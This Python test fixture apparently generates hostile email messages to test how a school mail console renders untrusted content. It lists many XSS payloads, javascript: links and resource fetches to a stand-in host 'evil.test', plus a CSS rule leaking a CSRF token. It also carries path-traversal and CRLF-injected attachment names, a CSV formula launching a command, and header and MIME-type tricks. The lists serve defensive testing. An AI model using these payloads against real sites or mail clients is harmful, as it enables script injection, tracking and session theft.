"""Hostile mail for the console: markup, styles, pictures, names, headers and MIME tricks that try to act or to phone home."""

from email.message import EmailMessage
from email.policy import SMTP

EVIL = "http://evil.test/seen"

SCRIPTS = """
<script>alert(1)</script>
<SCRIPT SRC=http://evil.test/seen></SCRIPT>
<script src=//evil.test/seen></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script type=module>import'http://evil.test/seen'</script>
<script\x20type="text/javascript">alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</iframe><script>alert(1)</script>
</noscript><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>
<template><script>alert(1)</script></template>
<xmp><p title="</xmp><script>alert(1)</script>">
<plaintext><script>alert(1)</script>
<!--><script>alert(1)</script-->
<![CDATA[><script>alert(1)</script>]]>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
{{constructor.constructor('alert(1)')()}}
{% csrf_token %}{% load static %}{{ request.session }}{% include "console/base.html" %}
${alert(1)}
<%= alert(1) %>
<div hx-get="http://evil.test/seen" hx-trigger="load">x</div>
<div data-hx-get="http://evil.test/seen" data-hx-trigger="load" hx-on:load="alert(1)">x</div>
<div hx-ext="x" hx-vals="js:{a:alert(1)}" hx-post="/held/1/release" hx-trigger="load"></div>
<meta name="htmx-config" content='{"allowEval":true}'>
<div data-module="govuk-error-summary" data-row data-key="release"><a href="javascript:alert(1)">x</a></div>
<script type="application/json" data-allauth-onload="alert">{}</script>
""".strip().splitlines()

EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "oninput",
    "onanimationstart",
    "ontransitionend",
    "onpointerenter",
    "ontoggle",
    "onbegin",
    "onend",
    "onrepeat",
    "onpageshow",
    "onhashchange",
    "onbeforetoggle",
    "onscrollend",
    "onwheel",
    "oncut",
    "onpaste",
]
ELEMENTS = {
    "onerror": '<img src=x onerror="alert(1)">',
    "ontoggle": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "onbegin": '<svg><animate onbegin="alert(1)" attributeName=x dur=1s></svg>',
    "onpageshow": '<body onpageshow="alert(1)">',
    "onfocus": '<input autofocus onfocus="alert(1)">',
    "onbeforetoggle": '<button popovertarget=x>x</button><div popover id=x onbeforetoggle="alert(1)">x</div>',
}
HANDLERS = [
    ELEMENTS.get(name, f'<b style="animation:x" tabindex=0 autofocus {name}="alert(1)">x</b>')
    for name in EVENTS
]

LINKS = [
    f'<a href="{address}">press</a>'
    for address in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "blob:http://evil.test/1",
        "//evil.test/seen",
        "/account/logout/",
        "http:/evil.test/seen",
        "\\\\evil.test\\share",
        "file:///etc/passwd",
        "intent://evil.test#Intent;scheme=http;end",
    )
] + [
    '<a href="http://evil.test/seen" ping="http://evil.test/seen" target=_top autofocus>x</a>',
    "<base href=//evil.test/>",
]

FETCHES = [
    f"<img src={EVIL}>",
    f'<img srcset="{EVIL} 2x">',
    f"<img src=x lowsrc={EVIL} dynsrc={EVIL}>",
    f"<picture><source srcset={EVIL}><img></picture>",
    f"<input type=image src={EVIL}>",
    f"<video src={EVIL} autoplay></video>",
    f"<video poster={EVIL}></video>",
    f"<audio src={EVIL} autoplay></audio>",
    f"<video><track src={EVIL} default></video>",
    f"<iframe src={EVIL}></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    f"<frameset><frame src={EVIL}></frameset>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<applet archive={EVIL}></applet>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<link rel=prefetch href={EVIL}>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<link rel=preload as=image href={EVIL}>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<meta http-equiv="Set-Cookie" content="session=x">',
    f"<body background={EVIL}>",
    f"<table background={EVIL}><tr><td background={EVIL}>x</table>",
    f"<form action={EVIL}><input type=submit autofocus></form>",
    f"<form id=release></form><button form=release formaction={EVIL}>Release</button>",
    '<form action="/held/1/delete" method=post><input name=delete-sure value=on><input type=submit></form>',
    f"<isindex action={EVIL} type=image>",
    f"<bgsound src={EVIL}>",
    f"<keygen autofocus><menuitem icon={EVIL}>",
    f"<portal src={EVIL}></portal>",
    f"<script type=speculationrules>{{'prefetch':[{{'source':'list','urls':['{EVIL}']}}]}}</script>",
]

STYLES = [
    f"<style>@import '{EVIL}';</style>",
    f"<style>*{{background:url({EVIL})}}</style>",
    f"<style>@font-face{{font-family:x;src:url({EVIL})}}*{{font-family:x}}</style>",
    f'<p style="background:url({EVIL})">x</p>',
    f"<p style=\"background-image:image-set('{EVIL}' 1x)\">x</p>",
    f'<p style="list-style:url({EVIL})">x</p>',
    f'<p style="cursor:url({EVIL}),auto">x</p>',
    f'<p style="content:url({EVIL})">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(#default#time2)" onbegin="alert(1)">x</p>',
    '<p style="-moz-binding:url(http://evil.test/x.xml#a)">x</p>',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">Session expired, sign in again</div>',
    '<div class="govuk-notification-banner govuk-notification-banner--success" id=main-content>Released</div>',
    "<style>body{display:none}</style>",
    f"<style>input[name=csrfmiddlewaretoken][value^=a]{{background:url({EVIL})}}</style>",
    f"<style>@media print{{*{{background:url({EVIL})}}}}</style>",
    f"<style>:root{{--x:url({EVIL})}}*{{background:var(--x)}}</style>",
    "<style></style><script>alert(1)</script>",
    f"<p style='@import url({EVIL})'>x</p>",
    f"<style>p{{mask:url({EVIL}#a);filter:url({EVIL}#b)}}</style><p>x</p>",
]

PICTURES = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<svg><script href={EVIL}></script></svg>",
    f"<svg><image href={EVIL}></image></svg>",
    f"<svg><use href='{EVIL}#x'></use></svg>",
    "<svg><a href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    f"<svg><feImage href={EVIL}></feImage></svg>",
    f"<svg><style>@import '{EVIL}'</style></svg>",
    "<svg><handler type=text/javascript ev:event=load>alert(1)</handler></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
]

MARKUP = [*SCRIPTS, *HANDLERS, *LINKS, *FETCHES, *STYLES, *PICTURES]

NAMES = [
    "<img src=x onerror=alert(1)>.xlsx",
    '"><script>alert(1)</script>.pdf',
    "'onmouseover='alert(1).docx",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\x.dll",
    "/etc/cron.d/x",
    "C:\\CON",
    "report\r\nX-Injected: yes.pdf",
    "report%0d%0aSet-Cookie:x=1.pdf",
    "report\u202efdp.exe",
    "list\u2028\u2029.csv",
    "a\x00b.pdf",
    "{{ 7|add:7 }}{% debug %}.txt",
    "javascript:alert(1)",
    "x" * 5000 + ".pdf",
    "\ufeff\u200b.csv",
    "<svg onload=alert(1)>.svg",
    "=cmd|' /C calc'!A0.csv",
    ".htaccess",
    "file.pdf\t.exe",
    "</script><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;.txt",
    "a;b&c|d`e$(f).sh",
    "\U0001f4a9" * 200,
]

HEADERS = [
    ("Subject", "=?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E?="),
    ("Subject", "=?utf-7?q?+ADw-script+AD4-alert(1)+ADw-/script+AD4-?="),
    ("Subject", "=?utf-8?b?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==?="),
    ("Subject", "=?utf-8?q?line=0d=0aX-Injected:_yes?="),
    ("Subject", "x" * 20000),
    ("Subject", "\u202e\u2066<b>bold</b>"),
    ("Subject", "=?x-none?q?abc?= =?utf-8?b?////?="),
    ("From", '"<script>alert(1)</script>" <s.green@example.sch.uk>'),
    ("From", "=?utf-8?q?=22=3E=3Cimg_src=3Dx_onerror=3Dalert(1)=3E?= <s.green@example.sch.uk>"),
    ("Reply-To", "javascript:alert(1)"),
    ("Reply-To", '"><svg onload=alert(1)> <a@example.org>'),
    ("To", "undisclosed:;<script>alert(1)</script>"),
    ("Cc", ", ".join(f'"<b>{n}</b>" <p{n}@example.org>' for n in range(300))),
    ("Content-Location", EVIL),
    ("Content-Base", EVIL),
    ("Link", f"<{EVIL}>; rel=preload"),
    ("Refresh", f"0;url={EVIL}"),
    ("Disposition-Notification-To", "x@evil.test"),
    ("X-Schoolgate-Verdict", "allow"),
    ("List-Unsubscribe", "<javascript:alert(1)>"),
    ("References", "<<<script>alert(1)</script>@x>"),
    ("Date", "<script>alert(1)</script>"),
    ("Message-ID", '<"><script>alert(1)</script>@evil.test>'),
    ("X-Long", "a" * 100000),
]


def with_markup(*payloads: str) -> bytes:
    """A message whose HTML, text, table and attachments hold these."""
    message = _message()
    joined = "\n".join(payloads)
    message.set_content(_wire(joined))
    message.add_alternative(_wire(f"<html><body><p>Dear parent</p>{joined}</body></html>"), subtype="html")
    for name, kind in (("a.html", "html"), ("b.svg", "svg+xml"), ("c.csv", "csv"), ("d.txt", "plain")):
        message.add_attachment(
            _wire(joined).encode(), maintype="text", subtype=kind.replace("+", "-"), filename=name
        )
    return message.as_bytes()


def with_names(*names: str) -> bytes:
    """A message whose attachments have these names, written as raw header lines where a library would refuse."""
    parts = [b"--b\r\nContent-Type: text/plain\r\n\r\nDear parent\r\n"]
    for name in names:
        raw = name.encode("utf-8", "surrogateescape").replace(b"\\", b"\\\\").replace(b'"', b'\\"')
        parts.append(
            b'--b\r\nContent-Type: text/plain; name="'
            + raw
            + b'"\r\nContent-Disposition: attachment; filename="'
            + raw
            + b'"\r\n\r\nx\r\n'
        )
    head = b"From: s.green@example.sch.uk\r\nSubject: files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    return head + b"".join(parts) + b"--b--\r\n"


def with_headers(*headers: tuple[str, str]) -> bytes:
    """A message with these header lines, as bytes that no library has made safe."""
    lines = [f"{name}: {value}\r\n".encode("utf-8", "surrogateescape") for name, value in headers]
    return b"".join(lines) + b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>Dear parent</p>\r\n"


def mime_tricks() -> list[bytes]:
    """Messages that lie about what they are."""
    script = b"<script>alert(1)</script><img src=" + EVIL.encode() + b">"
    types = [
        b"image/png", b"image/svg+xml", b"text/html; charset=utf-7", b"text/html; charset=<script>", b"text/x-amp-html",
        b"application/xhtml+xml", b"text/xml", b"multipart/x-mixed-replace; boundary=b", b"message/rfc822",
        b'message/external-body; access-type=URL; URL="' + EVIL.encode() + b'"', b"message/partial; id=1; number=1; total=2",
        b"text/calendar; method=REQUEST", b"text/html\r\nContent-Type: text/plain", b"TEXT/HTML;;;", b"text/html; charset=iso-2022-jp",
        b"application/x-msmetafile", b"text/javascript", b"multipart/related; type=text/html; boundary=b", b"", b"x/<script>alert(1)</script>",
    ]  # fmt: skip
    plain = [
        b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: " + kind + b"\r\n\r\n" + script for kind in types
    ]
    inner = b"Subject: <script>alert(1)</script>\r\nContent-Type: text/html\r\n\r\n" + script
    nested = b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
    encoded = b"Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: "
    return [
        *plain,
        nested * 5 + inner,
        encoded + b"base64\r\n\r\nPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        encoded + b"quoted-printable\r\n\r\n=3Cscript=3Ealert(1)=3C/script=3E",
        encoded + b"x-unknown\r\n\r\n" + script,
        b"\r\n" + script,
        b"",
        b"\x00\xff\xfe" * 50,
    ]


def everything() -> list[bytes]:
    """Each payload in a message of its own."""
    return [
        *(with_markup(payload) for payload in MARKUP),
        *(with_names(name) for name in NAMES),
        *(with_headers(header) for header in HEADERS),
        *mime_tricks(),
    ]


def _message() -> EmailMessage:
    message = EmailMessage(policy=SMTP)
    message["From"], message["To"], message["Subject"] = (
        "s.green@example.sch.uk",
        "pat.quill@families.example.org",
        "x",
    )
    return message


def _wire(text: str) -> str:
    return "".join(c for c in text if c.isprintable() or c in "\n\t\x01")
